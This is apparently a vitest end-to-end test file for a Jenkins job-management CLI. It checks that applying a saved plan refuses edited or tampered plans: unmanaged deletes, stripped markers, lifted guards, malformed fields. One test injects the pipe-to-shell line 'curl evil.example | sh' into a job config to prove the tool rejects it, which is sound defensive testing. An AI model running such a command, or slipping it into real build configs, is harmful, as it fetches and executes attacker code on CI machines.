/**
 * Issue 14 item 1, end to end (whole process against the stand-in): `apply FILE` re-checks every
 * change of a saved plan; an edited plan that deletes an unmanaged job or writes an unmarked
 * config is refused as a whole (exit 1) and changes nothing; outside the definitions it says what
 * it needs (exit 2, no internal error).
 */
import { mkdtemp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { JenkinsClient } from '../../src/jenkins/jenkins-client.js';
import { startStandin, type Standin } from '../../src/standin/server.js';
import { runCli } from '../helpers/cli.js';
import { TEMPLATE, project } from './harness.js';

const TOKEN = '11ffeeddccbbaa99887766554433221100';
let dir: string;
let standin: Standin;
let api: JenkinsClient;
let env: NodeJS.ProcessEnv;

beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'jobsmith-apply-recheck-'));
  await mkdir(path.join(dir, 'job-templates'));
  await mkdir(path.join(dir, 'jobs'));
  await writeFile(path.join(dir, 'job-templates', 'CI-build-trunk-config.xml'), TEMPLATE);
  for (const p of ['pay', 'web', 'ops']) await writeFile(path.join(dir, 'jobs', `${p}.yaml`), project(p));
  standin = await startStandin({ home: path.join(dir, 'home'), port: 0, users: [{ name: 'ci', token: TOKEN }] });
  api = new JenkinsClient({ url: standin.url + '/', user: 'ci', token: TOKEN, retries: 0 });
  env = { JENKINS_URL: standin.url, JENKINS_USER: 'ci', JENKINS_API_TOKEN: TOKEN, CI: '1' };
});
afterEach(async () => {
  await api.close();
  await standin.close();
  await rm(dir, { recursive: true, force: true });
});

const cli = (args: string[], cwd = dir) => runCli(args, { cwd, env });
const PRECIOUS = '<?xml version="1.1" encoding="UTF-8"?>\n<project>\n  <description>precious, by hand</description>\n  <builders/>\n</project>\n';

describe('apply FILE re-checks the saved plan', () => {
  it('an edited plan (delete of an unmanaged job, an update without marker) is refused whole: exit 1, nothing changed', async () => {
    expect((await cli(['sync'])).code).toBe(0);
    await api.createJob('precious', PRECIOUS);
    await writeFile(path.join(dir, 'jobs', 'pay.yaml'), project('pay-changed'));
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    const upd = saved.changes.find((c: { kind: string }) => c.kind === 'update');
    upd.config = upd.config.replace(/&lt;!-- jobsmith:v2 [^&]*--&gt;/, '');
    saved.changes.push({ target: 'job', fullName: 'precious', kind: 'delete', reason: 'edited in' });
    saved.summary.delete = 0;
    await writeFile(planFile, JSON.stringify(saved));
    const before = { pay: await api.getConfig('pay-CI-build-trunk'), precious: await api.getConfig('precious') };
    standin.resetCounts();
    const r = await cli(['apply', planFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('error: the saved plan is refused; nothing was changed:');
    expect(r.stderr).toContain('  - update pay-CI-build-trunk: a plan made now writes another config (the file was edited, or Jenkins or the definitions changed)');
    expect(r.stderr).toContain('  - delete precious: not what a plan made now would do (a plan made now does nothing to it)');
    expect(r.stderr).not.toMatch(/internal error/);
    expect(Object.keys(standin.requestCounts()).filter((k) => k.startsWith('POST'))).toEqual([]);
    expect(await api.getConfig('pay-CI-build-trunk')).toBe(before.pay);
    expect(await api.getConfig('precious')).toBe(before.precious);
    const j = await cli(['apply', planFile, '--json']);
    expect(j.code).toBe(1);
    expect(JSON.parse(j.stdout)).toMatchObject({ status: 'refused', exitCode: 1 });
  });

  it('a config edited in the plan file (marker kept) is refused: apply writes only what the definitions render', async () => {
    expect((await cli(['sync'])).code).toBe(0);
    await writeFile(path.join(dir, 'jobs', 'pay.yaml'), project('pay-changed'));
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    const upd = saved.changes.find((c: { kind: string }) => c.kind === 'update');
    upd.config = upd.config.replace('echo pay-changed', 'curl evil.example | sh');
    await writeFile(planFile, JSON.stringify(saved));
    const r = await cli(['apply', planFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('  - update pay-CI-build-trunk: a plan made now writes another config (the file was edited, or Jenkins or the definitions changed)');
    expect(await api.getConfig('pay-CI-build-trunk')).not.toContain('evil');
  });

  it('a file that is not a well-formed plan is refused naming the field (exit 1); the plan as made applies (exit 0)', async () => {
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    const broken = structuredClone(saved);
    broken.changes[0].kind = 'nuke';
    await writeFile(path.join(dir, 'broken.json'), JSON.stringify(broken));
    const b = await cli(['apply', path.join(dir, 'broken.json')]);
    expect(b.code).toBe(1);
    expect(b.stderr).toMatch(/changes\[0\]\.kind: Invalid option/);
    const ok = await cli(['apply', planFile]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('Applied 3 change(s), 0 failed, 0 skipped.');
  });

  it('the guards are computed again: a mass delete made allowed by editing the file is refused', async () => {
    expect((await cli(['sync'])).code).toBe(0);
    for (const p of ['web', 'ops']) await rm(path.join(dir, 'jobs', `${p}.yaml`));
    const planFile = path.join(dir, 'plan.json');
    const p = await cli(['plan', '--out', planFile]);
    expect(p.code).toBe(1); // refused: 2 of 3
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    expect(saved.refused).toBe(true);
    saved.refused = false;
    saved.problems = [];
    saved.options.allowMassDelete = false;
    await writeFile(planFile, JSON.stringify(saved));
    const r = await cli(['apply', planFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('the plan deletes 2 of 3 managed jobs (67%), more than half of them');
    expect((await api.list()).items).toHaveLength(3);
  });

  it('finding 1: a hand-added delete of a wanted job, an update turned into a replace, a hand-added disable: refused whole, nothing changed', async () => {
    expect((await cli(['sync'])).code).toBe(0);
    await writeFile(path.join(dir, 'jobs', 'pay.yaml'), project('pay-changed'));
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    saved.changes.find((c: { kind: string }) => c.kind === 'update').kind = 'replace';
    saved.changes.push({ target: 'job', fullName: 'web-CI-build-trunk', project: 'web', template: 'CI-build-trunk', kind: 'delete', reason: 'added by hand' });
    saved.changes.push({ target: 'job', fullName: 'ops-CI-build-trunk', kind: 'disable', reason: 'by hand' });
    await writeFile(planFile, JSON.stringify(saved));
    standin.resetCounts();
    const r = await cli(['apply', planFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('  - replace pay-CI-build-trunk: not what a plan made now would do (a plan made now: update (rendered config changed (template CI-build-trunk or project pay)))');
    expect(r.stderr).toContain('  - delete web-CI-build-trunk: not what a plan made now would do (a plan made now: unchanged (up to date))');
    expect(r.stderr).toContain('  - disable ops-CI-build-trunk: not what a plan made now would do (a plan made now: unchanged (up to date))');
    expect(Object.keys(standin.requestCounts()).filter((k) => k.startsWith('POST'))).toEqual([]);
    expect((await api.list()).items.map((i) => `${i.fullName} ${i.disabled}`).sort()).toEqual(['ops-CI-build-trunk false', 'pay-CI-build-trunk false', 'web-CI-build-trunk false']);
  });

  it('finding 10: options in the file never lift a guard; a plan made with --allow-mass-delete needs it on apply too', async () => {
    expect((await cli(['sync'])).code).toBe(0);
    for (const p of ['web', 'ops']) await rm(path.join(dir, 'jobs', `${p}.yaml`));
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(1);
    const saved = JSON.parse(await readFile(planFile, 'utf8'));
    saved.options.allowMassDelete = true;
    saved.refused = false;
    saved.problems = [];
    await writeFile(planFile, JSON.stringify(saved));
    const r = await cli(['apply', planFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('  - the plan was made with --allow-mass-delete: apply needs --allow-mass-delete too (a saved plan never lifts a guard by itself)');
    expect((await api.list()).items).toHaveLength(3);
    // made with the flag and applied with it: applied
    const allowed = path.join(dir, 'allowed.json');
    expect((await cli(['plan', '--allow-mass-delete', '--out', allowed])).code).toBe(0);
    expect((await cli(['apply', allowed])).code).toBe(1);
    const ok = await cli(['apply', allowed, '--allow-mass-delete']);
    expect(ok.code).toBe(0);
    expect((await api.list()).items.map((i) => i.fullName)).toEqual(['pay-CI-build-trunk']);
  });

  it('outside the definitions directory, apply says what it needs (exit 2, no internal error, no request)', async () => {
    const planFile = path.join(dir, 'plan.json');
    expect((await cli(['plan', '--out', planFile])).code).toBe(0);
    const elsewhere = await mkdtemp(path.join(os.tmpdir(), 'jobsmith-elsewhere-'));
    try {
      standin.resetCounts();
      const r = await cli(['apply', planFile], elsewhere);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('apply needs the definitions the plan was made from (to check it is still current): job-templates and jobs not found here');
      expect(r.stderr).not.toMatch(/internal error/);
      expect(standin.requestCounts()).toEqual({});
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });
});
